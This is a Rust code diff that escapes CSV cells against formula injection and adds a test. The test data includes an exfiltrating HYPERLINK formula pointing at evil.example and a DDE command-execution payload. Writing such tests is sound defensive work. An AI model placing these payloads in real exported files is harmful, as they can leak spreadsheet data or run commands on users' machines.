@@ -371,7 +371,10 @@ fn write_csv<const N: usize>(path: &Path, head: [&str; N], rows: &[[String; N]])
         let mut w = csv::Writer::from_writer(out);
         w.write_record(head)?;
         for r in rows {
-            w.write_record(r)?;
+            w.write_record(
+                r.iter()
+                    .map(|c| crate::hrfile::output::csv_text(c).into_owned()),
+            )?;
         }
         w.flush()?;
         Ok(())
@@ -510,5 +513,26 @@ mod tests {
         );
         assert_eq!(run.quota.len(), 69);
         assert!(run.quota.iter().all(|p| p.violations().is_empty()));
+    }
+}
+
+#[cfg(test)]
+mod safety_tests {
+    #[test]
+    fn example_csv_cells_are_escaped() {
+        let d = tempfile::tempdir().unwrap();
+        let p = d.path().join("x.csv");
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_string(),
+            "=cmd|' /C calc'!A0".to_string(),
+            "\tX".to_string(),
+        ];
+        super::write_csv(&p, ["a", "b", "c"], std::slice::from_ref(&hostile)).unwrap();
+        let bytes = std::fs::read(&p).unwrap();
+        let mut r = csv::Reader::from_reader(&bytes[3..]);
+        let rec = r.records().next().unwrap().unwrap();
+        for (got, h) in rec.iter().zip(&hostile) {
+            assert_eq!(got, format!("'{h}"));
+        }
     }
 }
